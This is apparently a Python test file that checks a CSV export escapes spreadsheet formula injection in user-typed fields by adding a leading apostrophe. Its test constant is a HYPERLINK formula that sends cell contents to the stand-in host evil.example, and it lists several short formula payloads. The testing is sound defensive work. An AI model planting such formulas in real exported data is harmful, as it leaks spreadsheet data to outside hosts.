"""CSV exports keep what a person typed as text: a cell that a spreadsheet would run as a formula (``=``, ``+``,
``-``, ``@``, tab, carriage return first) is written with a leading apostrophe (``api.exports.csv_cell``)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from api.exports import csv_cell
from api.routers.findings import findings_csv
from engine.findings import FindingRecord

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"fix")'


def test_the_findings_csv_writes_a_formula_title_as_text() -> None:
    """A finding's title is typed by a person: in the register's CSV it was a live formula."""
    now = datetime(2026, 1, 1, tzinfo=UTC)
    record = FindingRecord(finding_id="f-1", model_id="m", team="t", business_intent="credit", severity="high",
                           title=FORMULA, due_at=now, raised_by="u", raised_by_username="@vera", raised_at=now)
    rows = list(csv.DictReader(io.StringIO(findings_csv([record], now=now))))
    assert rows[0]["title"] == "'" + FORMULA and rows[0]["raised_by_username"] == "'@vera"
    assert rows[0]["age_days"] == "0" and rows[0]["severity"] == "high"


def test_a_csv_cell_is_text_when_a_spreadsheet_would_run_it() -> None:
    for hostile in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(hostile) == "'" + hostile
    assert csv_cell(None) == "" and csv_cell(-3) == -3 and csv_cell("Vera Schäfer") == "Vera Schäfer"
